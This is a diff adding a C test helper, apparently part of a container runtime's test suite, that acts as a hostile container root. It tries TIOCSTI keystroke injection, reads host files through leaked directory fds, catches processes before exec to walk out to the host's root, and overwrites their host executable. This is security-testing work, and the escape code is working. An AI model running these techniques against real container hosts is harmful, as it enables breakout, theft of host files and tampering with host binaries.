@@ -1,0 +1,254 @@
+/* What a container's root would run against the host, built static by the
+ * tests into a rootfs (gcc -static). Modes:
+ *   hostile sti TEXT          TIOCSTI TEXT into fds 0-2; prints which worked
+ *   hostile fd N PATH         reads PATH through the inherited fd N (a host
+ *                             folder) and prints it
+ *   hostile watch DIR         until DIR/finish exists: stops every new process
+ *                             (the next pids, read from ns_last_pid); of one
+ *                             that has not exec'd yet (its comm is neither
+ *                             "true" nor "hostile") it records its fds, walks ".."
+ *                             from each folder fd to read DIR/canary-path,
+ *                             keeps its exe open and, once nobody runs it,
+ *                             writes into it; reports in DIR/report
+ *   hostile finish DIR        asks the watcher to end, waits for DIR/done
+ *   hostile calls             calls what the default seccomp filter denies,
+ *                             with arguments that fail otherwise with
+ *                             anything but EPERM; prints "NAME: ERROR"
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+static FILE *report;
+static int exes[64];
+static int nexes;
+static int exe_written;
+
+static int sti(const char *text)
+{
+	for (int fd = 0; fd <= 2; fd++) {
+		int ok = 1;
+		for (const char *p = text; *p; p++)
+			if (ioctl(fd, TIOCSTI, p) < 0)
+				ok = 0;
+		fprintf(stderr, "fd %d: TIOCSTI %s\n", fd, ok ? "worked" : strerror(errno));
+	}
+	return 0;
+}
+
+static int read_through(int dirfd, const char *path, char *buf, size_t len)
+{
+	int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK);
+	if (fd < 0)
+		return -1;
+	ssize_t n = read(fd, buf, len - 1);
+	close(fd);
+	if (n < 0)
+		return -1;
+	buf[n] = '\0';
+	return 0;
+}
+
+static int fd_mode(int n, const char *path)
+{
+	char buf[4096];
+	struct stat st;
+	if (fstat(n, &st) < 0) {
+		printf("fd %d: %s\n", n, strerror(errno));
+		return 1;
+	}
+	if (read_through(n, path, buf, sizeof(buf)) < 0) {
+		printf("fd %d: reading %s: %s\n", n, path, strerror(errno));
+		return 1;
+	}
+	printf("fd %d: read %s: %s\n", n, path, buf);
+	return 0;
+}
+
+/* From a folder of the host's tree, ".." leads to the host's "/". */
+static void walk_out(int pid, int fd, const char *target)
+{
+	char p[128], buf[256];
+	snprintf(p, sizeof(p), "/proc/%d/fd/%d", pid, fd);
+	int d = open(p, O_RDONLY | O_DIRECTORY);
+	if (d < 0)
+		return;
+	for (int i = 0; i < 64; i++) {
+		int up = openat(d, "..", O_RDONLY | O_DIRECTORY);
+		if (up < 0)
+			break;
+		close(d);
+		d = up;
+	}
+	if (read_through(d, target + 1, buf, sizeof(buf)) == 0)
+		fprintf(report, "pid %d fd %d: read the host's %s: %s\n", pid, fd, target, buf);
+	close(d);
+}
+
+static int seen[4096];
+static int nseen;
+
+static void inspect(int pid, const char *target)
+{
+	for (int i = 0; i < nseen; i++)
+		if (seen[i] == pid)
+			return;
+	char p[128], link[256], comm[32] = "";
+	/* exec'd: the commands the test runs are "true" and this helper */
+	snprintf(p, sizeof(p), "/proc/%d/comm", pid);
+	if (read_through(AT_FDCWD, p, comm, sizeof(comm)) < 0 || !strcmp(comm, "true\n") ||
+	    !strcmp(comm, "hostile\n"))
+		return;
+	snprintf(p, sizeof(p), "/proc/%d/exe", pid);
+	fprintf(report, "pid %d: caught before exec\n", pid);
+	if (nseen < 4096)
+		seen[nseen++] = pid;
+	if (nexes < 64) {
+		int e = open(p, O_RDONLY | O_CLOEXEC);
+		if (e >= 0)
+			exes[nexes++] = e;
+	}
+	snprintf(p, sizeof(p), "/proc/%d/fd", pid);
+	DIR *d = opendir(p);
+	if (!d)
+		return;
+	struct dirent *de;
+	while ((de = readdir(d))) {
+		int fd = atoi(de->d_name);
+		if (de->d_name[0] == '.' || fd <= 2)
+			continue;
+		char fp[512];
+		snprintf(fp, sizeof(fp), "%s/%s", p, de->d_name);
+		ssize_t n = readlink(fp, link, sizeof(link) - 1);
+		link[n > 0 ? n : 0] = '\0';
+		fprintf(report, "pid %d holds fd %d: %s\n", pid, fd, link);
+		walk_out(pid, fd, target);
+	}
+	closedir(d);
+}
+
+/* Writes into each exe kept open, through /proc/self/fd (a fresh open for
+ * writing, ETXTBSY while any process runs it). */
+static void write_exes(void)
+{
+	for (int i = 0; i < nexes && !exe_written; i++) {
+		char p[64];
+		snprintf(p, sizeof(p), "/proc/self/fd/%d", exes[i]);
+		int w = open(p, O_WRONLY);
+		if (w < 0)
+			continue;
+		if (pwrite(w, "HACKED", 6, 0) == 6) {
+			fprintf(report, "wrote into the exe of a caught process\n");
+			exe_written = 1;
+		}
+		close(w);
+	}
+}
+
+static int last_pid(void)
+{
+	char buf[32];
+	if (read_through(AT_FDCWD, "/proc/sys/kernel/ns_last_pid", buf, sizeof(buf)) < 0)
+		return -1;
+	return atoi(buf);
+}
+
+static int watch(const char *dir)
+{
+	char p[512], target[256] = "";
+	snprintf(p, sizeof(p), "%s/canary-path", dir);
+	if (read_through(AT_FDCWD, p, target, sizeof(target)) < 0)
+		return 1;
+	target[strcspn(target, "\n")] = '\0';
+	snprintf(p, sizeof(p), "%s/report", dir);
+	report = fopen(p, "w");
+	if (!report)
+		return 1;
+	setvbuf(report, NULL, _IOLBF, 0);
+	snprintf(p, sizeof(p), "%s/ready", dir);
+	close(open(p, O_WRONLY | O_CREAT, 0644));
+	snprintf(p, sizeof(p), "%s/finish", dir);
+	int self = getpid();
+	for (unsigned long spin = 0;; spin++) {
+		int last = last_pid();
+		for (int pid = last + 1; pid > 1 && pid <= last + 4; pid++) {
+			if (pid == self || kill(pid, SIGSTOP) < 0)
+				continue;
+			inspect(pid, target);
+			kill(pid, SIGCONT);
+		}
+		if (last > 1 && last != self && kill(last, SIGSTOP) == 0) {
+			inspect(last, target);
+			kill(last, SIGCONT);
+		}
+		if (spin % 1024 == 0) {
+			write_exes();
+			if (access(p, F_OK) == 0)
+				break;
+		}
+	}
+	write_exes();
+	fprintf(report, "end\n");
+	fclose(report);
+	snprintf(p, sizeof(p), "%s/done", dir);
+	close(open(p, O_WRONLY | O_CREAT, 0644));
+	return 0;
+}
+
+static int finish(const char *dir)
+{
+	char p[512];
+	snprintf(p, sizeof(p), "%s/finish", dir);
+	close(open(p, O_WRONLY | O_CREAT, 0644));
+	snprintf(p, sizeof(p), "%s/done", dir);
+	for (int i = 0; i < 300 && access(p, F_OK) < 0; i++)
+		usleep(100000);
+	return access(p, F_OK) == 0 ? 0 : 1;
+}
+
+static int calls(void)
+{
+	static const struct {
+		const char *name;
+		long nr, a, b, c;
+	} t[] = {
+		{ "syslog", SYS_syslog, 10, 0, 0 }, /* SYSLOG_ACTION_SIZE_BUFFER */
+		{ "swapon", SYS_swapon, 0, 0, 0 },
+		{ "swapoff", SYS_swapoff, 0, 0, 0 },
+		{ "bpf", SYS_bpf, 0, 0, 0 },
+		{ "perf_event_open", SYS_perf_event_open, 0, 0, -1 },
+		{ "keyctl", SYS_keyctl, 0, -3, 0 }, /* KEYCTL_GET_KEYRING_ID of the session keyring */
+		{ "add_key", SYS_add_key, 0, 0, 0 },
+		{ "request_key", SYS_request_key, 0, 0, 0 },
+	};
+	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
+		long r = syscall(t[i].nr, t[i].a, t[i].b, t[i].c, 0, 0);
+		printf("%s: %s\n", t[i].name, r < 0 ? strerror(errno) : "ok");
+	}
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	if (argc == 2 && !strcmp(argv[1], "calls"))
+		return calls();
+	if (argc == 3 && !strcmp(argv[1], "sti"))
+		return sti(argv[2]);
+	if (argc == 4 && !strcmp(argv[1], "fd"))
+		return fd_mode(atoi(argv[2]), argv[3]);
+	if (argc == 3 && !strcmp(argv[1], "watch"))
+		return watch(argv[2]);
+	if (argc == 3 && !strcmp(argv[1], "finish"))
+		return finish(argv[2]);
+	fprintf(stderr, "usage: hostile sti TEXT | fd N PATH | watch DIR | finish DIR\n");
+	return 2;
+}
